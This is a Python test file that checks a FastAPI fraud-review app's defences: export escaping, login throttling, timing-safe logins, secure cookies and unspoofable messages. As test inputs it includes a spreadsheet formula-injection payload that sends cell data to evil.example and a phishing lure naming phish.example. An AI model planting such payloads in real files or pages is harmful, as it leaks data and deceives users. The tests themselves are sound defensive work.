"""The review app against an attacker: exports that cannot run formulas in a spreadsheet,
login throttling that an attacker cannot turn against a real user, no user-name oracle in
the login's timing, messages only the app itself can show, and cookies that stay on TLS."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from fastapi.testclient import TestClient

from pipelines.accounts import hash_password
from pipelines.settings import VigilSettings
from pipelines.store import ResultsStore
from review import create_app
from tests.review_client import PASSWORD, csrf_of, try_login
from tests.review_fixtures import add_flagged_run

# The log-in timing test needs argon2 at its real cost (tests/conftest.py lowers it).
REAL_PASSWORD_HASHING = True

FORMULA_ID = '=HYPERLINK("http://evil.example/?q="&A1,"x")'
FORMULA_NOTE = "@SUM(1+1)"


@pytest.fixture(scope="module")
def password_hash() -> str:
    return hash_password(PASSWORD)


@pytest.fixture
def store(tmp_path, password_hash) -> ResultsStore:
    store = ResultsStore(f"sqlite:///{tmp_path / 'review.db'}")
    for name, role in (("ana", "analyst"), ("bob", "analyst")):
        store.add_user(name, role, password_hash, actor="test")
    add_flagged_run(
        store,
        batch_id="b1",
        flags=[(FORMULA_ID, "+card1", 4.0), ("r2", "card2", 3.0), ("r3", "card3", 2.0)],
    )
    return store


@pytest.fixture
def settings(tmp_path) -> VigilSettings:
    return VigilSettings(home=tmp_path)


@pytest.fixture
def app(store, settings):
    return create_app(store, settings)


def client_at(app, address: str, **kwargs) -> TestClient:
    """A browser at ``address`` (the app sees it as the peer's address)."""
    return TestClient(app, follow_redirects=False, client=(address, 50000), **kwargs)


def logged_in(app, name: str, address: str = "10.0.0.1") -> TestClient:
    client = client_at(app, address)
    response = try_login(client, name, PASSWORD)
    assert response.status_code == 303 and response.headers["location"] == "/", response.text
    return client


# -- exports --------------------------------------------------------------------------


def test_export_neutralises_formula_injection(app, store):
    case_id = next(i["id"] for i in store.queue_page().items if i["record_ids"] == [FORMULA_ID])
    store.give_verdict(case_id, "ana", "fraud", note=FORMULA_NOTE)
    store.give_verdict(
        next(i["id"] for i in store.queue_page().items if i["record_ids"] == ["r2"]),
        "ana",
        "not_fraud",
        note="-2 seen before\tok",
    )
    ana = logged_in(app, "ana")
    token = store.create_token("ana", actor="test")
    api = TestClient(app, headers={"Authorization": f"Bearer {token}"})
    frames = {
        "page csv": pd.read_csv(io.StringIO(ana.get("/export/labels.csv").text), dtype=str),
        "page parquet": pd.read_parquet(io.BytesIO(ana.get("/export/labels.parquet").content)),
        "api csv": pd.read_csv(io.StringIO(api.get("/api/labels?format=csv").text), dtype=str),
        "api parquet": pd.read_parquet(io.BytesIO(api.get("/api/labels?format=parquet").content)),
    }
    for where, frame in frames.items():
        assert set(frame["record_id"]) == {"'" + FORMULA_ID, "r2"}, where
        assert set(frame["entity"]) == {"'+card1", "card2"}, where
        assert set(frame["note"]) == {"'" + FORMULA_NOTE, "'-2 seen before\tok"}, where
        for column in frame.columns:  # no string cell a spreadsheet would evaluate
            for value in frame[column].dropna():
                assert not (isinstance(value, str) and value[:1] in "=+-@\t\r"), (where, value)
    # Numbers stay numbers: only text cells are quoted.
    raw = list(csv.DictReader(io.StringIO(ana.get("/export/labels.csv").text)))
    assert all(not row["label_id"].startswith("'") for row in raw)


# -- login ----------------------------------------------------------------------------


def test_unknown_user_name_is_checked_against_a_dummy_hash(app, store, monkeypatch):
    """An unknown or disabled user spends the same password check as a known one, so
    the answer's timing does not tell which user names exist."""
    import review.routers.login as login_module

    checked: list[str | None] = []
    real_verify = login_module.verify_password

    def spy(password: str, password_hash: str | None) -> bool:
        checked.append(password_hash)
        return real_verify(password, password_hash)

    monkeypatch.setattr(login_module, "verify_password", spy)
    store.add_user("gone", "analyst", hash_password(PASSWORD), actor="test")
    store.update_user("gone", actor="test", disabled=True)
    client = client_at(app, "10.0.0.9")
    for name in ("nobody", "gone", "ana"):
        response = try_login(client, name, "wrong password!")
        assert "error" in response.headers["location"]
    assert len(checked) == 3  # one argon2 check per attempt, whoever was named
    assert checked[0] is None  # pipelines.accounts checks a missing hash against a dummy one


def test_unknown_user_answers_as_slowly_as_a_wrong_password(app):
    import statistics
    import time

    client = client_at(app, "10.0.0.8")

    def seconds(name: str) -> float:
        started = time.perf_counter()
        try_login(client, name, "wrong password!")
        return time.perf_counter() - started

    seconds("warm-up")  # the first check builds the dummy hash once
    known = statistics.median(seconds("ana") for _ in range(3))
    unknown = statistics.median(seconds("nobody") for _ in range(3))
    # Without the dummy check an unknown name answers ~20x faster; with it, alike.
    assert unknown > 0.3 * known, (unknown, known)


def test_an_attacker_at_one_address_cannot_lock_out_the_user_at_another(app):
    attacker = client_at(app, "203.0.113.7")
    for _ in range(5):
        response = try_login(attacker, "ana", "wrong password!")
        assert response.status_code == 303 and "error" in response.headers["location"]
    # The guessing address is refused for this user, even with the right password...
    assert try_login(attacker, "ana", PASSWORD).status_code == 429
    # ...while the user, from her own address, signs in as usual.
    logged_in(app, "ana", address="10.0.0.1")
    # And the attacker's address may still sign in as somebody else it knows.
    assert try_login(attacker, "bob", PASSWORD).status_code == 303


def test_one_address_trying_many_user_names_is_throttled(store, tmp_path):
    app = create_app(store, VigilSettings(home=tmp_path, review_login_attempts_per_address=6))
    sprayer = client_at(app, "203.0.113.8")
    for i in range(6):
        assert try_login(sprayer, f"user{i}", "Spring2026!").status_code == 303
    assert try_login(sprayer, "bob", PASSWORD).status_code == 429
    logged_in(app, "bob", address="10.0.0.2")  # other addresses are not affected


def test_a_distributed_attack_on_one_user_spares_browsers_she_signed_in_from(store, tmp_path):
    app = create_app(store, VigilSettings(home=tmp_path, review_login_attempts_per_account=8))
    own_browser = logged_in(app, "ana", address="10.0.0.1")  # gets the device cookie
    for i in range(4):  # four addresses, each below the per-address limits
        attacker = client_at(app, f"198.51.100.{i}")
        for _ in range(2):
            assert try_login(attacker, "ana", "wrong password!").status_code == 303
    # A browser that never signed in as ana is refused while the attack lasts...
    assert try_login(client_at(app, "10.0.0.99"), "ana", PASSWORD).status_code == 429
    # ...her own browser is not, and a forged device cookie does not pass for hers.
    response = try_login(own_browser, "ana", PASSWORD)
    assert response.status_code == 303 and response.headers["location"] == "/"
    forged = client_at(app, "10.0.0.98")
    forged.cookies.set("vigil_device", own_browser.cookies.get("vigil_device") + "x")
    assert try_login(forged, "ana", PASSWORD).status_code == 429
    assert try_login(client_at(app, "10.0.0.97"), "bob", PASSWORD).status_code == 303


def test_a_trusted_proxy_forwards_the_client_address(store, tmp_path):
    app = create_app(store, VigilSettings(home=tmp_path, review_trust_proxy_headers=True))
    via_proxy = {"X-Forwarded-For": "198.51.100.20, 203.0.113.9"}
    attacker = client_at(app, "127.0.0.1", headers=via_proxy)
    for _ in range(5):
        try_login(attacker, "ana", "wrong password!")
    assert try_login(attacker, "ana", PASSWORD).status_code == 429
    # Another client behind the same proxy is another address.
    user = client_at(app, "127.0.0.1", headers={"X-Forwarded-For": "10.0.0.3"})
    assert try_login(user, "ana", PASSWORD).status_code == 303
    (failure, *_) = [
        e
        for e in store.audit_entries(entity="user", entity_id="ana")
        if e.action.endswith("failed")
    ]
    assert failure.detail["client"] == "203.0.113.9"


# -- cookies --------------------------------------------------------------------------


def _set_cookies(response) -> dict[str, str]:
    return {h.split("=", 1)[0]: h for h in response.headers.get_list("set-cookie")}


def test_cookies_are_secure_when_the_request_came_over_https(store, tmp_path):
    plain = create_app(store, VigilSettings(home=tmp_path))
    over_tls = TestClient(plain, follow_redirects=False, base_url="https://review.example")
    assert "Secure" in _set_cookies(over_tls.get("/login"))["vigil_login_csrf"]
    response = try_login(over_tls, "ana", PASSWORD)
    assert response.status_code == 303
    assert "Secure" in _set_cookies(response)["vigil_session"]
    # Plain HTTP (the local default) keeps working without Secure cookies.
    local = client_at(plain, "127.0.0.1")
    assert "Secure" not in _set_cookies(try_login(local, "ana", PASSWORD))["vigil_session"]
    # Behind a TLS proxy the app sees HTTP; it believes X-Forwarded-Proto only when told to.
    forwarded = {"X-Forwarded-Proto": "https"}
    untrusted = client_at(plain, "127.0.0.1", headers=forwarded)
    assert "Secure" not in _set_cookies(try_login(untrusted, "ana", PASSWORD))["vigil_session"]
    behind_proxy = create_app(store, VigilSettings(home=tmp_path, review_trust_proxy_headers=True))
    trusted = client_at(behind_proxy, "127.0.0.1", headers=forwarded)
    assert "Secure" in _set_cookies(trusted.get("/login"))["vigil_login_csrf"]


# -- messages -------------------------------------------------------------------------


def test_messages_come_only_from_the_app_not_the_url(app, store):
    ana = logged_in(app, "ana")
    spoof = "Session expired, log in at https://phish.example/login"
    for url in ("/queue", f"/cases/{store.queue_page().items[0]['id']}"):
        page = ana.get(url, params={"msg": spoof})
        assert page.status_code == 200 and "phish.example" not in page.text, url
    # The app's own message: set by the action, shown once by the next page.
    case_id = store.queue_page().items[0]["id"]
    done = ana.post(
        f"/cases/{case_id}/verdict",
        data={"verdict": "fraud", "advance": "0", "csrf_token": csrf_of(ana)},
    )
    assert done.status_code == 303 and "msg=" not in done.headers["location"]
    shown = ana.get(done.headers["location"])
    assert f"Case #{case_id}: fraud." in shown.text
    assert f"Case #{case_id}: fraud." not in ana.get(done.headers["location"]).text
    # A message cookie the app did not sign, or signed for someone else, is not shown.
    ana.cookies.set("vigil_flash", "Session expired")
    assert "Session expired" not in ana.get("/queue").text
    bob = logged_in(app, "bob", address="10.0.0.2")
    bob.post("/queue/claim-next", data={"csrf_token": csrf_of(bob)})
    claimed = store.queue_page().items
    released = bob.post(
        "/queue/bulk",
        data={"case_id": [str(claimed[-1]["id"])], "verdict": "fraud", "csrf_token": csrf_of(bob)},
    )
    assert released.status_code == 303 and "msg=" not in released.headers["location"]
    ana.cookies.set("vigil_flash", bob.cookies.get("vigil_flash"))
    assert "Bulk verdict: 1 applied" not in ana.get("/queue").text
    assert "Bulk verdict: 1 applied" in bob.get("/queue").text
